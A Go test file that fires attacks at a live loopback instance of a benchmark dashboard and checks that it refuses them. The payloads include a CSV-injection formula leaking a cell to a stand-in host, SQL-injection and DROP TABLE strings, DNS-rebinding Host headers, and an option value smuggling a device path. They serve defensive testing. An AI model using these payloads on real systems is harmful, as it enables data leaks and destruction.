package handlers

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"iolab/bench"
	"iolab/bench/sweep"
	"iolab/bench/testdev"
	"iolab/db"
)

// TestQueuedTargetSwappedForDevice: a queued run's file under the data
// directory is swapped for a symlink to a block device that is not on the
// allow-list while the run waits; when it starts, its step refuses the
// target and the device is never written.
func TestQueuedTargetSwappedForDevice(t *testing.T) {
	dev := testdev.Loop(t, 16<<20)
	ts := newTestServer(t, Config{})
	// The first run holds the data directory's disk; the second waits.
	first := launchRun(t, ts, `{"name":"hold","options":{"filename":"hold.dat","size":"4m","rw":"randread",
		"ioengine":"libaio","runtime":"1s","time_based":1}}`)
	victim := filepath.Join(ts.dataDir, "victim.dat")
	if err := os.WriteFile(victim, make([]byte, 4<<20), 0o644); err != nil {
		t.Fatal(err)
	}
	second := launchRun(t, ts, `{"name":"swap","options":{"filename":"victim.dat","size":"4m","rw":"write","bs":"64k",
		"ioengine":"psync","runtime":"300ms","time_based":1}}`)
	if r, err := ts.store.GetRun(context.Background(), second); err != nil || r.Status != db.StatusQueued {
		t.Fatalf("second run: %+v %v; want it queued behind the first", r, err)
	}
	if err := os.Remove(victim); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(dev, victim); err != nil {
		t.Fatal(err)
	}
	waitStatus(t, ts.store, first, db.StatusDone)
	run := waitStatus(t, ts.store, second, db.StatusFailed)
	if !strings.Contains(run.Error, "allow-list") {
		t.Errorf("the swapped run failed with %q; want the allow-list refusal", run.Error)
	}
	data, err := os.ReadFile(dev)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, make([]byte, len(data))) {
		t.Fatal("the device behind the swapped symlink was written")
	}
}

// liveServer is the dashboard served as iolab serve serves it: HTTPServer
// on Listener, on a real loopback socket.
type liveServer struct {
	*testServer
	url  string
	addr string
}

func startLive(t testing.TB, cfg Config) *liveServer {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	cfg.Listen = ln.Addr().String()
	ts := newTestServer(t, cfg)
	hs := ts.srv.HTTPServer()
	go hs.Serve(ts.srv.Listener(ln))
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		hs.Shutdown(ctx)
	})
	return &liveServer{testServer: ts, url: "http://" + cfg.Listen, addr: cfg.Listen}
}

// attackClient never reuses connections, so one attack's half-read
// answer cannot spill into the next.
var attackClient = &http.Client{Transport: &http.Transport{DisableKeepAlives: true, ExpectContinueTimeout: 5 * time.Second},
	CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}

// send makes one request (header: name, value pairs; "Host" sets the Host
// header) and returns the status, the Retry-After header and the body.
func (ls *liveServer) send(t *testing.T, method, path string, body io.Reader, header ...string) (int, http.Header, string) {
	t.Helper()
	req, err := http.NewRequest(method, ls.url+path, body)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(header); i += 2 {
		if header[i] == "Host" {
			req.Host = header[i+1]
		} else {
			req.Header.Set(header[i], header[i+1])
		}
	}
	resp, err := attackClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, resp.Header, string(b)
}

// exportDoc is an iolab export document of one finished run, edited.
func exportDoc(t *testing.T, edit func(*db.Export)) []byte {
	t.Helper()
	e := db.Export{Format: db.ExportFormat, Version: db.ExportVersion,
		Run: db.Run{Name: "imported", Status: db.StatusDone, Created: time.Unix(1_780_000_000, 0), Hostname: "lab-b", Kernel: "6.12.0"}}
	edit(&e)
	b, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// numbersStep is a done step seq of one job that read 100,000 4 KiB
// blocks in 1 s, edited.
func numbersStep(seq int, edit func(*bench.JobResult)) sweep.StepResult {
	j := bench.JobResult{Name: "r", Runtime: time.Second, Jobs: 1}
	j.Dirs[bench.Read].IOs, j.Dirs[bench.Read].Bytes = 100_000, 100_000*4096
	edit(&j)
	start := time.Unix(1_780_000_000, 0)
	return sweep.StepResult{Step: sweep.Step{Seq: seq}, Status: sweep.StepDone, Start: start, End: start.Add(time.Second),
		Result: &bench.Result{Start: start, Groups: []bench.GroupResult{{Jobs: []bench.JobResult{j}}}}}
}

// holdElsewhere starts another process that records a running run in the
// store at path and holds it until the test ends; it returns the run's id
// and the process's pid.
func holdElsewhere(t *testing.T, path string) (int64, int) {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), "IOLAB_TEST_HOLD_RUN="+path)
	cmd.Stderr = os.Stderr
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { stdin.Close(); cmd.Wait() })
	var id int64
	if _, err := fmt.Fscan(stdout, &id); err != nil {
		t.Fatalf("the holding process: %v", err)
	}
	return id, cmd.Process.Pid
}

// A hostile but fair reviewer's attacks, replayed against a real server:
// each must get its error code and store nothing.
func TestAttacks(t *testing.T) {
	const token = "attack-test-token"
	limits := HTTPLimits{ReadHeaderTimeout: 300 * time.Millisecond, HeavyWait: 200 * time.Millisecond,
		MaxUploads: 1, MaxImport: 1 << 20}
	open := startLive(t, Config{HTTP: limits})
	guarded := startLive(t, Config{HTTP: limits, Token: token, RequireToken: true})
	ctx := context.Background()

	// A run another process is running, in the open server's store.
	heldID, heldPID := holdElsewhere(t, open.store.Path())
	held := strconv.FormatInt(heldID, 10)

	// Names a spreadsheet would run, brought in by an import.
	const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	fair := seedFairnessRun(t, open.store)
	_, _, doc := open.send(t, "GET", fmt.Sprintf("/api/runs/%d", fair.ID), nil)
	quoted, _ := json.Marshal(formula)
	doc = strings.ReplaceAll(doc, `"fg-reader"`, string(quoted))
	doc = strings.ReplaceAll(doc, `"6.12.0"`, string(quoted))
	doc = strings.Replace(doc, `"uid":"`, `"uid":"f`, 1)
	status, _, body := open.send(t, "POST", "/api/import", strings.NewReader(doc))
	if status != http.StatusCreated {
		t.Fatalf("import of the formula-named run: %d %s", status, body)
	}
	var imp importedRun
	if err := json.Unmarshal([]byte(body), &imp); err != nil {
		t.Fatal(err)
	}
	evil := strconv.FormatInt(imp.ID, 10)
	fairID := strconv.FormatInt(fair.ID, 10)

	bearer := []string{"Authorization", "Bearer " + token}
	// Just over the limit: the rest of a refused body fits in the
	// socket's buffers, so the client reads the answer instead of a reset.
	over := int(limits.MaxImport) + 64<<10
	big := func(n int) io.Reader { return bytes.NewReader(bytes.Repeat([]byte(" "), n)) }
	// chunked hides the length, so only reading finds the limit.
	chunked := func(r io.Reader) io.Reader { return io.MultiReader(r) }
	var form bytes.Buffer
	mw := multipart.NewWriter(&form)
	fw, _ := mw.CreateFormFile("file", "big.json")
	fw.Write(bytes.Repeat([]byte(" "), over))
	mw.Close()
	plan := `{"options":{"filename":"x.dat","size":"1m","rw":"randread","ioengine":"psync","runtime":"1s","time_based":1}}`

	type attack struct {
		name string
		srv  *liveServer
		// do runs the attack and returns what the server answered: status
		// 0 means it closed the connection.
		do       func(t *testing.T, ls *liveServer) (int, http.Header, string)
		status   int
		contains string
	}
	req := func(method, path string, body func() io.Reader, header ...string) func(*testing.T, *liveServer) (int, http.Header, string) {
		return func(t *testing.T, ls *liveServer) (int, http.Header, string) {
			var b io.Reader
			if body != nil {
				b = body()
			}
			return ls.send(t, method, path, b, header...)
		}
	}
	text := func(s string) func() io.Reader { return func() io.Reader { return strings.NewReader(s) } }
	importDoc := func(edit func(*db.Export)) func() io.Reader {
		return func() io.Reader { return bytes.NewReader(exportDoc(t, edit)) }
	}
	attacks := []attack{
		// 1. Unbounded bodies.
		{name: "import over the limit, length given", srv: open, status: 413, contains: "over 1048576 bytes",
			do: req("POST", "/api/import", func() io.Reader { return big(over) }, "Expect", "100-continue")},
		{name: "import over the limit, chunked", srv: open, status: 413, contains: "over 1048576 bytes",
			do: req("POST", "/api/import", func() io.Reader { return chunked(big(over)) })},
		{name: "plan over 1 MiB", srv: open, status: 413, contains: "over",
			do: req("POST", "/api/runs", func() io.Reader { return chunked(big(over)) }, "Content-Type", "application/json")},
		{name: "label edit over 1 MiB", srv: open, status: 413, contains: "over",
			do: req("PATCH", "/api/runs/"+fairID, func() io.Reader { return big(over) }, "Content-Type", "application/json", "Expect", "100-continue")},
		{name: "import form over the limit", srv: open, status: 413, contains: "over",
			do: req("POST", "/import", func() io.Reader { return chunked(bytes.NewReader(form.Bytes())) }, "Content-Type", mw.FormDataContentType())},
		// 2. Slow clients.
		{name: "headers never finished", srv: open, status: 0,
			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
				c, err := net.Dial("tcp", ls.addr)
				if err != nil {
					t.Fatal(err)
				}
				defer c.Close()
				io.WriteString(c, "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
				c.SetReadDeadline(time.Now().Add(5 * time.Second))
				start := time.Now()
				n, err := c.Read(make([]byte, 512))
				if ne, ok := err.(net.Error); ok && ne.Timeout() {
					t.Fatal("the server kept a connection without headers for 5 s")
				}
				return 0, nil, fmt.Sprintf("closed after %s, %d bytes", time.Since(start).Round(time.Millisecond), n)
			}},
		{name: "uploads at once: the second waits, then 429", srv: open, status: 429, contains: "busy",
			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
				pr, pw := io.Pipe()
				defer pw.Close()
				go func() {
					r, _ := http.NewRequest("POST", ls.url+"/api/import", pr)
					r.ContentLength = 1 << 19
					if resp, err := attackClient.Do(r); err == nil {
						resp.Body.Close()
					}
				}()
				pw.Write(bytes.Repeat([]byte(" "), 1<<10)) // then stalls, holding the upload turn
				time.Sleep(100 * time.Millisecond)
				return ls.send(t, "POST", "/api/import", bytes.NewReader(exportDoc(t, func(*db.Export) {})))
			}},
		// 3. Runs another process holds.
		{name: "delete a run another process runs", srv: open, status: 409, contains: fmt.Sprintf("pid %d", heldPID),
			do: req("DELETE", "/api/runs/"+held, nil)},
		{name: "delete it through the page", srv: open, status: 409, contains: fmt.Sprintf("pid %d", heldPID),
			do: req("POST", "/runs/"+held+"/delete", nil)},
		{name: "cancel a run another process runs", srv: open, status: 409, contains: fmt.Sprintf("pid %d", heldPID),
			do: req("POST", "/api/runs/"+held+"/cancel", nil)},
		// 4. DNS rebinding.
		{name: "launch for a foreign Host", srv: open, status: 421, contains: "DNS rebinding",
			do: req("POST", "/api/runs", text(plan), "Host", "evil.example", "Content-Type", "application/json")},
		{name: "read for a foreign Host", srv: open, status: 421, contains: "DNS rebinding",
			do: req("GET", "/api/runs", nil, "Host", "evil.example:"+strings.Split(open.addr, ":")[1])},
		{name: "a foreign Host that ends in localhost", srv: open, status: 421,
			do: req("GET", "/", nil, "Host", "localhost.evil.example")},
		// 5. CSV injection.
		{name: "formula in the compare CSV", srv: open, status: 200, contains: `'=HYPERLINK(`,
			do: req("GET", "/compare/export.csv?table=diff&run="+fairID+"&run="+evil, nil)},
		{name: "formula in the fairness CSV", srv: open, status: 200, contains: `'=HYPERLINK(`,
			do: req("GET", "/charts/export.csv?kind=fairness&run="+evil, nil)},
		{name: "formula in the steps CSV", srv: open, status: 200, contains: `'=HYPERLINK(`,
			do: req("GET", "/runs/"+evil+"/steps.csv", nil)},
		{name: "formula in the jobs CSV", srv: open, status: 200, contains: `'=HYPERLINK(`,
			do: req("GET", "/compare/export.csv?table=jobs&run="+fairID+"&run="+evil, nil)},
		// 6. Imports that skip the rules.
		{name: "import a 10,000-character name", srv: open, status: 400, contains: "longer than 200",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Name = strings.Repeat("n", 10000) }))},
		{name: "import ESC in a name", srv: open, status: 400, contains: "control characters",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Name = "x\x1b[2J\x1b[H" }))},
		{name: "import NUL in a name", srv: open, status: 400, contains: "control characters",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Name = "x\x00y" }))},
		{name: "import 500 labels", srv: open, status: 400, contains: "at most 50",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
				for i := range 500 {
					e.Run.Tags = append(e.Run.Tags, "l"+strconv.Itoa(i))
				}
			}))},
		{name: "import labels through the query", srv: open, status: 400, contains: "control characters",
			do: req("POST", "/api/import?label=a%1Bb", importDoc(func(*db.Export) {}))},
		{name: "import a huge hostname", srv: open, status: 400, contains: "longer than 255",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Hostname = strings.Repeat("h", 512<<10) }))},
		{name: "import a run still running", srv: open, status: 400, contains: "must have ended",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Status = db.StatusRunning }))},
		{name: "import a queued run", srv: open, status: 400, contains: "must have ended",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Status = db.StatusQueued }))},
		// Hostile numbers and steps that are not the plan's (issue 23, 17).
		{name: "import 300 steps for a one-step plan", srv: open, status: 400, contains: "300 steps for a plan of 1",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
				for i := range 300 {
					e.Steps = append(e.Steps, sweep.StepResult{Step: sweep.Step{Seq: i}, Status: sweep.StepFailed, Error: "x"})
				}
			}))},
		{name: "import a step of an axis the plan does not sweep", srv: open, status: 400, contains: "the plan does not sweep iodepth",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
				st := numbersStep(0, func(*bench.JobResult) {})
				st.Step.Axes = []sweep.AxisValue{{Axis: sweep.AxisIODepth, Value: "4096"}}
				e.Steps = append(e.Steps, st)
			}))},
		{name: "import 2^60 I/Os in a second", srv: open, status: 400, contains: "read IOPS 1.153e+18",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
				e.Steps = append(e.Steps, numbersStep(0, func(j *bench.JobResult) { j.Dirs[bench.Read].IOs = 1<<60 - 1 }))
			}))},
		{name: "import I/Os that wrap an int64 (IOPS -5)", srv: open, status: 400, contains: "read ios is 18446744073709551611",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
				e.Steps = append(e.Steps, numbersStep(0, func(j *bench.JobResult) { j.Dirs[bench.Read].IOs = 1<<64 - 5 }))
			}))},
		{name: "import a mean latency of 1.7e308", srv: open, status: 400, contains: "read clat mean is 1.7e+308",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
				e.Steps = append(e.Steps, numbersStep(0, func(j *bench.JobResult) { j.Dirs[bench.Read].Clat.Stat.Mean = 1.7e308 }))
			}))},
		{name: "import a negative runtime", srv: open, status: 400, contains: "runtime_ns is -5: negative",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
				e.Steps = append(e.Steps, numbersStep(0, func(j *bench.JobResult) { j.Runtime = -5 }))
			}))},
		{name: "import group id 2^40", srv: open, status: 400, contains: "group_id 1099511627776",
			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
				e.Steps = append(e.Steps, numbersStep(0, func(j *bench.JobResult) { j.GroupID = 1 << 40 }))
			}))},
		// 6b. Imports and launches whose work is not bounded by their bytes.
		{name: "import fio output of 1,025 jobs", srv: open, status: 400, contains: "more than 1024 jobs",
			do: req("POST", "/api/import", func() io.Reader { return bytes.NewReader(fioOutput(t, 1025, nil)) })},
		{name: "import a 100 KiB job description", srv: open, status: 400, contains: "at most 1024",
			do: req("POST", "/api/import", func() io.Reader {
				return bytes.NewReader(fioOutput(t, 1, func(_ int, j map[string]any) {
					j["job options"].(map[string]string)["description"] = strings.Repeat("d", 100<<10)
				}))
			})},
		{name: "launch with a 100 KiB description", srv: open, status: 400, contains: "at most 1024",
			do: req("POST", "/api/runs", text(`{"options":{"filename":"x.dat","size":"1m","rw":"randread","ioengine":"psync","runtime":"1s","description":"`+
				strings.Repeat("d", 100<<10)+`"}}`), "Content-Type", "application/json")},
		{name: "launch with a line break in an option", srv: open, status: 400, contains: "line break",
			do: req("POST", "/api/runs", text(`{"options":{"filename":"x.dat","size":"1m","rw":"randread","ioengine":"psync","runtime":"1s","description":"x\nfilename=/dev/loop3"}}`), "Content-Type", "application/json")},
		{name: "rename to 100 KiB", srv: open, status: 400, contains: "longer than 200",
			do: req("PATCH", "/api/runs/"+fairID, text(`{"name":"`+strings.Repeat("n", 100<<10)+`"}`), "Content-Type", "application/json")},
		{name: "rename to ESC", srv: open, status: 400, contains: "control characters",
			do: req("PATCH", "/api/runs/"+fairID, text(`{"name":"a\u001bb"}`), "Content-Type", "application/json")},
		// 6c. Pruning (issue 28): the admin's alone, a confirm no other
		// site can send, hostile rules refused before any SQL.
		{name: "prune on a dashboard without a token", srv: open, status: 403, contains: "no token",
			do: req("POST", "/api/prune", text(`{"keep":1,"ids":[1,2,3]}`), "Content-Type", "application/json")},
		{name: "prune's dry run without a token", srv: open, status: 403, contains: "no token",
			do: req("GET", "/api/prune?older_than=0d", nil)},
		{name: "prune unauthenticated", srv: guarded, status: 401, contains: "token",
			do: req("POST", "/api/prune", text(`{"keep":1,"ids":[1]}`), "Content-Type", "application/json")},
		{name: "prune with a session never issued", srv: guarded, status: 401,
			do: req("POST", "/prune", text("keep=1&ids=1"), "Cookie", sessionCookie+"=00", "Content-Type", "application/x-www-form-urlencoded")},
		{name: "prune's confirm from another site", srv: guarded, status: 403, contains: "cross-origin",
			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
				sid := login(t, ls, token)
				return ls.send(t, "POST", "/prune", text("older_than=0d&ids="+fairID)(), "Cookie", sessionCookie+"="+sid,
					"Content-Type", "application/x-www-form-urlencoded", "Sec-Fetch-Site", "cross-site")
			}},
		{name: "prune's confirm with a foreign Origin", srv: guarded, status: 403, contains: "cross-origin",
			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
				sid := login(t, ls, token)
				return ls.send(t, "POST", "/prune", text("older_than=0d&ids="+fairID)(), "Cookie", sessionCookie+"="+sid,
					"Content-Type", "application/x-www-form-urlencoded", "Origin", "http://evil.example")
			}},
		{name: "prune keeping 10^15", srv: guarded, status: 400, contains: "want a whole number of runs from 1 to",
			do: req("GET", "/api/prune?keep=1000000000000000", nil, bearer...)},
		{name: "prune keeping -1", srv: guarded, status: 400, contains: "want a whole number of runs",
			do: req("POST", "/api/prune", text(`{"keep":-1,"ids":[1]}`), append([]string{"Content-Type", "application/json"}, bearer...)...)},
		{name: "prune older than -90d", srv: guarded, status: 400, contains: "want a whole number and a unit",
			do: req("GET", "/api/prune?older_than=-90d", nil, bearer...)},
		{name: "prune older than a date to come", srv: guarded, status: 400, contains: "a date to come",
			do: req("GET", "/api/prune?older_than=2999-01-01", nil, bearer...)},
		{name: "prune of a status that is SQL", srv: guarded, status: 400, contains: "want one of",
			do: req("GET", "/api/prune?status="+url.QueryEscape("done' OR '1'='1"), nil, bearer...)},
		{name: "prune of a tag that is SQL", srv: guarded, status: 200, contains: `"delete":[]`,
			do: req("GET", "/api/prune?tag="+url.QueryEscape("x') OR 1=1; DROP TABLE runs; --"), nil, bearer...)},
		{name: "prune of a tag with ESC", srv: guarded, status: 400, contains: "control characters",
			do: req("GET", "/api/prune?tag=a%1Bb", nil, bearer...)},
		{name: "prune with no rule", srv: guarded, status: 400, contains: "say what to prune",
			do: req("POST", "/api/prune", text(`{"ids":[1]}`), append([]string{"Content-Type", "application/json"}, bearer...)...)},
		{name: "prune of 100,001 runs", srv: guarded, status: 400, contains: "1 to 100000",
			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
				ids := make([]int64, maxPruneIDs+1)
				for i := range ids {
					ids[i] = int64(i + 1)
				}
				b, _ := json.Marshal(PruneRequest{Keep: 1, IDs: ids})
				return ls.send(t, "POST", "/api/prune", bytes.NewReader(b), append([]string{"Content-Type", "application/json"}, bearer...)...)
			}},
		{name: "prune with a body that is not one", srv: guarded, status: 400, contains: "not a prune",
			do: req("POST", "/api/prune", text(`{"keep":"1; DELETE FROM runs","ids":[1]}`), append([]string{"Content-Type", "application/json"}, bearer...)...)},
		// 7. Sessions and guessing.
		{name: "a session cookie that was never issued", srv: guarded, status: 401,
			do: req("POST", "/api/runs", text(plan), "Cookie", sessionCookie+"=00", "Content-Type", "application/json")},
		{name: "the session after logout", srv: guarded, status: 401, contains: "token",
			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
				first, second := login(t, ls, token), login(t, ls, token)
				if first == second {
					t.Errorf("two logins got the same session id %q", first)
				}
				if st, _, b := ls.send(t, "DELETE", "/api/runs/999", nil, "Cookie", sessionCookie+"="+first); st != 404 {
					t.Fatalf("with a fresh session: %d %s", st, b)
				}
				ls.send(t, "POST", "/logout", nil, "Cookie", sessionCookie+"="+first)
				if st, _, b := ls.send(t, "DELETE", "/api/runs/999", nil, "Cookie", sessionCookie+"="+second); st != 404 {
					t.Errorf("another login's session ended with this one: %d %s", st, b)
				}
				return ls.send(t, "DELETE", "/api/runs/999", nil, "Cookie", sessionCookie+"="+first)
			}},
		{name: "guessing the token at /login", srv: guarded, status: 429, contains: "too many wrong tokens",
			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
				for i := range loginTries - 1 {
					if st, _, _ := ls.send(t, "POST", "/login", text("token=guess"+strconv.Itoa(i))(), "Content-Type", "application/x-www-form-urlencoded"); st != 401 {
						t.Fatalf("wrong token %d: %d", i+1, st)
					}
				}
				st, h, _ := ls.send(t, "POST", "/login", text("token=guess-last")(), "Content-Type", "application/x-www-form-urlencoded")
				if st != 429 || h.Get("Retry-After") != "60" {
					t.Errorf("wrong token %d: %d, Retry-After %q", loginTries, st, h.Get("Retry-After"))
				}
				// Locked out: even the right token waits, and so does a bearer.
				if st, _, _ := ls.send(t, "DELETE", "/api/runs/999", nil, bearer...); st != 429 {
					t.Errorf("a bearer token from a locked-out address: %d", st)
				}
				return ls.send(t, "POST", "/login", text("token="+token)(), "Content-Type", "application/x-www-form-urlencoded")
			}},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			before, err := a.srv.store.ListRuns(ctx, db.RunFilter{})
			if err != nil {
				t.Fatal(err)
			}
			status, header, body := a.do(t, a.srv)
			if status != a.status || !strings.Contains(body, a.contains) {
				t.Fatalf("status %d, want %d with %q; body:\n%.1000s", status, a.status, a.contains, body)
			}
			if status == 429 && header.Get("Retry-After") == "" {
				t.Error("a 429 without Retry-After")
			}
			after, err := a.srv.store.ListRuns(ctx, db.RunFilter{})
			if err != nil {
				t.Fatal(err)
			}
			if len(after) != len(before) {
				t.Errorf("%d runs stored before, %d after", len(before), len(after))
			}
			if status == 200 && strings.Contains(body, ","+formula[:10]) {
				t.Errorf("a formula reaches a CSV cell unquoted:\n%.1000s", body)
			}
			stillServes(t, a.srv)
		})
	}
	// The held run is still there for its process to finish.
	if r, err := open.store.GetRun(ctx, heldID); err != nil || r.Status != db.StatusRunning {
		t.Errorf("the run held elsewhere: %+v %v", r, err)
	}
}

// login logs in at ls with token and returns the session id.
func login(t *testing.T, ls *liveServer, token string) string {
	t.Helper()
	req, _ := http.NewRequest("POST", ls.url+"/login", strings.NewReader("token="+token))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	resp, err := attackClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	for _, c := range resp.Cookies() {
		if c.Name == sessionCookie && c.Value != "" {
			if c.MaxAge != int(sessionTTL/time.Second) {
				t.Errorf("session cookie max-age %d", c.MaxAge)
			}
			return c.Value
		}
	}
	t.Fatalf("login: %d without a session cookie", resp.StatusCode)
	return ""
}

// stillServes checks that after an attack the server answers a normal
// request within a second, and that the process (the server and its
// tests) holds under 500 MiB: an attack may be refused, never take the
// dashboard down with it.
func stillServes(t *testing.T, ls *liveServer) {
	t.Helper()
	c := &http.Client{Timeout: time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	req, _ := http.NewRequest("GET", ls.url+"/api/runs?limit=1", nil)
	if ls.srv.token != "" {
		req.Header.Set("Authorization", "Bearer "+ls.srv.token)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("after the attack a normal request got no answer within 1 s: %v", err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("after the attack a normal request: %d", resp.StatusCode)
	}
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(status), "\n") {
		if rest, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, _ := strconv.Atoi(strings.TrimSuffix(strings.TrimSpace(rest), " kB"))
			if kb > 500<<10 {
				t.Errorf("after the attack the process holds %d MiB, over 500", kb>>10)
			}
		}
	}
}
